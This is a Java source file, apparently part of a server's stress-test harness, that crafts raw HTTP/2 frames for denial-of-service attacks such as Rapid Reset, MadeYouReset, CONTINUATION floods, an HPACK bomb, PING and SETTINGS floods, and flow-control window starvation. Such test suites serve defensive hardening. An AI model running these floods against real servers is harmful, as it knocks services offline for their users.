package io.tidegate.proof.torture;

import static io.tidegate.proof.torture.Attack.Needs.HTTP2;
import static io.tidegate.testkit.RawHttp2.ACK;
import static io.tidegate.testkit.RawHttp2.CONTINUATION;
import static io.tidegate.testkit.RawHttp2.DATA;
import static io.tidegate.testkit.RawHttp2.END_HEADERS;
import static io.tidegate.testkit.RawHttp2.END_STREAM;
import static io.tidegate.testkit.RawHttp2.HEADERS;
import static io.tidegate.testkit.RawHttp2.PING;
import static io.tidegate.testkit.RawHttp2.PRIORITY;
import static io.tidegate.testkit.RawHttp2.RST_STREAM;
import static io.tidegate.testkit.RawHttp2.WINDOW_UPDATE;
import static java.nio.charset.StandardCharsets.ISO_8859_1;

import io.tidegate.proof.torture.Script.Appetite;
import io.tidegate.proof.torture.Script.Move;
import io.tidegate.testkit.RawHttp2;
import java.nio.ByteBuffer;
import java.time.Duration;
import java.util.List;
import java.util.function.IntFunction;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/// Attacks over HTTP/2 with prior knowledge.
final class Http2Attacks {
  static final String PREFACE =
      "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(RawHttp2.SETTINGS, 0, 0, "");
  static final int SETTINGS = RawHttp2.SETTINGS;

  private static final String ACKNOWLEDGED = frame(SETTINGS, ACK, 0, "");

  /// The end of the header of a first SETTINGS frame: its type, no flags, stream 0.
  private static final String THEIR_SETTINGS = "\u0004\0\0\0\0\0";

  private static final int INITIAL_WINDOW_SIZE = 4;
  private static final int CANCEL = 8;
  private static final int STREAMS_AT_ONCE = 100;

  private Http2Attacks() {}

  static List<Attack> all() {
    return List.of(
        Attack.of(
            "h2-silent", HTTP2, "the preface and nothing behind it", _ -> Script.saying(PREFACE)),
        flood(
            "h2-rapid-reset",
            "requests that are reset at once",
            (ground, stream) -> get(ground, ground.page(), stream) + reset(stream)),
        flood(
            "h2-made-you-reset",
            "requests, then credit of 0 for their streams",
            (ground, stream) ->
                get(ground, ground.large(), stream) + word(WINDOW_UPDATE, stream, 0)),
        flood(
            "h2-streams",
            "requests whose bodies never come",
            (ground, stream) ->
                frame(HEADERS, END_HEADERS, stream, section(ground, "POST", ground.upload()))),
        endless("h2-continuation-empty", "CONTINUATION of 0 B", begun(), continuation(0)),
        endless("h2-continuation", "CONTINUATION of 16 KiB", begun(), continuation(16_384)),
        endless("h2-settings", "SETTINGS", "", frame(SETTINGS, 0, 0, "\0\4\0\0\u00ff\u00ff")),
        endless("h2-pings", "PING", "", frame(PING, 0, 0, "\0".repeat(8))),
        endless("h2-priority", "PRIORITY", "", frame(PRIORITY, 0, 1, "\0\0\0\0\1")),
        endless("h2-unknown", "frames of an unknown type", "", frame(0x7f, 0, 0, "")),
        Attack.flood(
            "h2-pings-unread",
            HTTP2,
            "PING without end, answers not read",
            _ ->
                open("")
                    .withAppetite(Appetite.NONE)
                    .thenFlooding(frame(PING, 0, 0, "\0".repeat(8)).repeat(500))),
        Attack.flood(
            "h2-empty-data",
            HTTP2,
            "empty DATA without end",
            ground -> upload(ground, frame(DATA, 0, 1, "").repeat(500))),
        Attack.flood(
            "h2-tiny-data",
            HTTP2,
            "DATA of a byte without end",
            ground -> upload(ground, frame(DATA, 0, 1, "x").repeat(500))),
        Attack.of(
            "h2-no-window",
            HTTP2,
            "100 long answers, no credit, a PING a second",
            ground ->
                windowed()
                    .thenMoving(
                        Duration.ofSeconds(1),
                        turn ->
                            turn == 0
                                ? asks(ground)
                                : new Move.Send(frame(PING, 0, 0, "\0".repeat(8))))),
        Attack.of(
            "h2-tiny-window",
            HTTP2,
            "100 long answers, credit of a byte each, ten times a second",
            ground ->
                windowed()
                    .thenMoving(
                        HttpAttacks.TENTH,
                        turn -> turn == 0 ? asks(ground) : new Move.Send(crumbs()))),
        Attack.of(
            "h2-never-read",
            HTTP2,
            "100 long answers, all credit, none read",
            ground ->
                open(word(WINDOW_UPDATE, 0, 0x7fff0000 - 65_535))
                    .withAppetite(Appetite.NONE)
                    .thenMoving(
                        Duration.ofSeconds(1), turn -> turn == 0 ? asks(ground) : new Move.Wait())),
        flood("h2-hpack-bomb", "a field of 3.9 KB named 4,000 times", Http2Attacks::bomb),
        flood(
            "h2-head-count",
            "1,000 fields",
            (ground, stream) ->
                frame(
                    HEADERS,
                    END_HEADERS | END_STREAM,
                    stream,
                    section(ground, "GET", ground.page()) + "\0\1a\1b".repeat(1_000))));
  }

  private interface OfStream {
    String text(Ground ground, int stream);
  }

  /// A hundred streams at each turn, each used once.
  private static Attack flood(String name, String parameters, OfStream request) {
    return Attack.flood(
        name,
        HTTP2,
        parameters,
        ground ->
            open("")
                .thenMoving(
                    Duration.ZERO,
                    turn -> new Move.Send(streams(turn, stream -> request.text(ground, stream)))));
  }

  private static Attack endless(String name, String what, String first, String again) {
    return Attack.flood(
        name,
        HTTP2,
        what + " without end",
        _ -> {
          var flood = again.repeat(Math.max(1, 16_384 / again.length()));
          return open(first).thenFlooding(flood);
        });
  }

  /// Moves begin once the target's settings have come.
  private static Script open(String more) {
    return Script.saying(PREFACE + ACKNOWLEDGED + more).afterHearing(THEIR_SETTINGS);
  }

  private static Script windowed() {
    var none = frame(SETTINGS, 0, 0, "\0" + (char) INITIAL_WINDOW_SIZE + "\0\0\0\0");
    return open(none);
  }

  private static Script upload(Ground ground, String flood) {
    return open(frame(HEADERS, END_HEADERS, 1, section(ground, "POST", ground.upload())))
        .thenFlooding(flood);
  }

  private static Move asks(Ground ground) {
    return new Move.Send(streams(0, stream -> get(ground, ground.large(), stream)));
  }

  private static String crumbs() {
    return streams(0, stream -> word(WINDOW_UPDATE, stream, 1));
  }

  private static String streams(int turn, IntFunction<String> each) {
    return IntStream.range(turn * STREAMS_AT_ONCE, (turn + 1) * STREAMS_AT_ONCE)
        .mapToObj(i -> each.apply(2 * i + 1))
        .collect(Collectors.joining());
  }

  private static String begun() {
    return frame(HEADERS, END_STREAM, 1, "\u0082");
  }

  private static String continuation(int bytes) {
    return frame(CONTINUATION, 0, 1, "\0\1a\1b".repeat(bytes / 5));
  }

  /// The field is kept in the peer's table as number 62, then named by a byte a time, RFC 7541 §6.
  private static String bomb(Ground ground, int stream) {
    var kept = text(RawHttp2.section("x-bomb", "y".repeat(3_900))).substring(1);
    var section = section(ground, "GET", ground.page()) + "@" + kept + "\u00be".repeat(4_000);
    return frame(HEADERS, END_HEADERS | END_STREAM, stream, section);
  }

  private static String get(Ground ground, String path, int stream) {
    return frame(HEADERS, END_HEADERS | END_STREAM, stream, section(ground, "GET", path));
  }

  private static String section(Ground ground, String method, String path) {
    return text(RawHttp2.request(method, ground.host(), path));
  }

  private static String reset(int stream) {
    return word(RST_STREAM, stream, CANCEL);
  }

  private static String word(int type, int stream, int word) {
    return frame(type, 0, stream, text(ByteBuffer.allocate(4).putInt(word).array()));
  }

  private static String frame(int type, int flags, int stream, String payload) {
    return text(RawHttp2.frame(type, flags, stream, payload.getBytes(ISO_8859_1)));
  }

  private static String text(byte[] bytes) {
    return new String(bytes, ISO_8859_1);
  }
}
